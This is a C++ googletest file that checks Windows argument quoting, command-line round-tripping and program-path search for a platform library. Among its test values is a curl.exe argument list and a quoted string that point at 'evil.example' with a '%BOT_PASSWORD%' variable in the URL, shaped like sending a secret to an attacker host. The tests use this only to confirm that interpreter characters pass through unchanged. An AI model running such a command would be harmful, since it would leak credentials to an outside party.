#include "platform/win_args.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace {

using platform::program_candidates;
using platform::quote_windows_arg;
using platform::windows_command_line;

// Splits a command line the way the C runtime builds argv (the rules since
// 2008, which CommandLineToArgvW shares): the program name runs to the next
// double quote when it starts with one, else to white space; after it,
// 2n backslashes and a quote give n backslashes and toggle quoting, 2n+1
// backslashes and a quote give n backslashes and a literal quote, other
// backslashes are literal, and "" inside quotes is a literal quote.
std::vector<std::string> parse_command_line(const std::string& line) {
  std::vector<std::string> argv;
  std::size_t i = 0;
  std::string program;
  if (i < line.size() && line[i] == '"') {
    const std::size_t end = line.find('"', 1);
    program = line.substr(1, end == std::string::npos ? std::string::npos : end - 1);
    i = end == std::string::npos ? line.size() : end + 1;
  } else {
    while (i < line.size() && line[i] != ' ' && line[i] != '\t') program += line[i++];
  }
  argv.push_back(program);
  for (;;) {
    while (i < line.size() && (line[i] == ' ' || line[i] == '\t')) ++i;
    if (i >= line.size()) break;
    std::string arg;
    bool quoted = false;
    while (i < line.size()) {
      const char c = line[i];
      if (!quoted && (c == ' ' || c == '\t')) break;
      if (c == '\\') {
        std::size_t run = 0;
        while (i < line.size() && line[i] == '\\') ++run, ++i;
        if (i < line.size() && line[i] == '"') {
          arg.append(run / 2, '\\');
          if (run % 2 == 1) {
            arg += '"';
            ++i;
          }
        } else {
          arg.append(run, '\\');
        }
      } else if (c == '"') {
        if (quoted && i + 1 < line.size() && line[i + 1] == '"') {
          arg += '"';
          i += 2;
        } else {
          quoted = !quoted;
          ++i;
        }
      } else {
        arg += c;
        ++i;
      }
    }
    argv.push_back(arg);
  }
  return argv;
}

TEST(QuoteWindowsArg, WritesEachArgumentAsTheParserNeedsIt) {
  const struct {
    std::string arg;
    std::string quoted;
  } cases[] = {
      {"plain", "plain"},
      {"", "\"\""},
      {"two words", "\"two words\""},
      {"tab\there", "\"tab\there\""},
      {"line\nfeed", "\"line\nfeed\""},
      {"vertical\vtab", "\"vertical\vtab\""},
      {"say\"hi\"", "\"say\\\"hi\\\"\""},
      {"\"", "\"\\\"\""},
      {"\"\"", "\"\\\"\\\"\""},
      // Backslashes are literal unless a quote follows.
      {"C:\\dir\\file", "C:\\dir\\file"},
      {"\\\\server\\share", "\\\\server\\share"},
      {"ends\\", "ends\\"},
      {"ends\\\\", "ends\\\\"},
      {"C:\\Program Files\\", "\"C:\\Program Files\\\\\""},
      {"a b\\\\", "\"a b\\\\\\\\\""},
      {"a\\\"b", "\"a\\\\\\\"b\""},
      {"a\\\\\"b", "\"a\\\\\\\\\\\"b\""},
      {"\\\" \\", "\"\\\\\\\" \\\\\""},
      // Nothing reads the line but the parser: interpreter characters stay.
      {"%PATH%", "%PATH%"},
      {"http://evil.example/%BOT_PASSWORD%", "http://evil.example/%BOT_PASSWORD%"},
      {"a&b|c<d>e^f!g!", "a&b|c<d>e^f!g!"},
      {"%PATH% x", "\"%PATH% x\""},
  };
  for (const auto& c : cases) {
    EXPECT_EQ(quote_windows_arg(c.arg), c.quoted) << c.arg;
  }
}

TEST(WindowsCommandLine, ReadsBackAsTheSameArguments) {
  const std::vector<std::string> argv = {
      "C:\\Program Files\\curl\\curl.exe",
      "-sk",
      "--max-time",
      "4",
      "http://evil.example/%BOT_PASSWORD%/slots",
      "",
      "a \"quoted\" word",
      "trailing\\",
      "spaced trailing\\",
      "\t",
      "\\\"",
  };
  const std::string line = windows_command_line(argv);
  EXPECT_EQ(line.rfind("\"C:\\Program Files\\curl\\curl.exe\" -sk --max-time 4 ", 0), 0u) << line;
  EXPECT_EQ(parse_command_line(line), argv);
}

TEST(WindowsCommandLine, EveryShortArgumentSurvives) {
  // Every string of up to five characters over the characters that matter,
  // alone and between neighbours that could absorb a stray quote.
  const std::string alphabet = "a \"\\\t";
  std::vector<std::string> args = {""};
  for (std::size_t begin = 0, length = 1; length <= 5; ++length) {
    const std::size_t end = args.size();
    for (std::size_t i = begin; i < end; ++i) {
      for (char c : alphabet) args.push_back(args[i] + c);
    }
    begin = end;
  }
  ASSERT_EQ(args.size(), 1u + 5 + 25 + 125 + 625 + 3125);
  for (const std::string& arg : args) {
    const std::vector<std::string> argv = {"prog", "x\\", arg, "\"y"};
    ASSERT_EQ(parse_command_line(windows_command_line(argv)), argv) << "[" << arg << "]";
  }
}

TEST(WindowsCommandLine, RefusesWhatItCannotWrite) {
  const std::vector<std::vector<std::string>> cases = {
      {},
      {""},
      {"pro\"gram.exe"},
      {std::string("prog\0.exe", 9)},
      {"prog.exe", std::string("a\0b", 3)},
  };
  for (const auto& argv : cases) {
    EXPECT_EQ(windows_command_line(argv), "") << argv.size();
  }
  EXPECT_EQ(windows_command_line({"prog.exe"}), "\"prog.exe\"");
  EXPECT_EQ(windows_command_line({"my prog.exe", ""}), "\"my prog.exe\" \"\"");
}

TEST(ProgramCandidates, OnlyTheSearchPathDecidesForABareName) {
  const struct {
    std::string program;
    std::string search_path;
    std::vector<std::string> candidates;
  } cases[] = {
      {"curl.exe", "C:\\bin;D:\\tools\\", {"C:\\bin\\curl.exe", "D:\\tools\\curl.exe"}},
      {"curl.exe", "C:\\bin;C:\\bin", {"C:\\bin\\curl.exe", "C:\\bin\\curl.exe"}},
      {"curl", "C:\\bin", {"C:\\bin\\curl.exe"}},
      {"tool.v2", "C:\\bin", {"C:\\bin\\tool.v2"}},
      {"curl.exe", "", {}},
      {"curl.exe", ";;C:\\a;", {"C:\\a\\curl.exe"}},
      {"curl.exe", "Z:/unix/style/", {"Z:/unix/style/curl.exe"}},
      {"curl.exe",
       "\"C:\\Program Files\\curl\";C:\\b",
       {"C:\\Program Files\\curl\\curl.exe", "C:\\b\\curl.exe"}},
      {"curl.exe", "\"\";C:\\b", {"C:\\b\\curl.exe"}},
      {"velunora-tmux.exe", ".", {".\\velunora-tmux.exe"}},
      // A directory part: the name as given, the search path unused.
      {"C:\\tools\\velunora-tmux.exe", "C:\\bin", {"C:\\tools\\velunora-tmux.exe"}},
      {"C:\\my.dir\\tool", "C:\\bin", {"C:\\my.dir\\tool.exe"}},
      {".\\tool", "C:\\bin", {".\\tool.exe"}},
      {"sub/tool.exe", "C:\\bin", {"sub/tool.exe"}},
      {"D:tool", "C:\\bin", {"D:tool.exe"}},
      {"", "C:\\bin", {}},
  };
  for (const auto& c : cases) {
    EXPECT_EQ(program_candidates(c.program, c.search_path), c.candidates)
        << c.program << " on " << c.search_path;
  }
}

}  // namespace
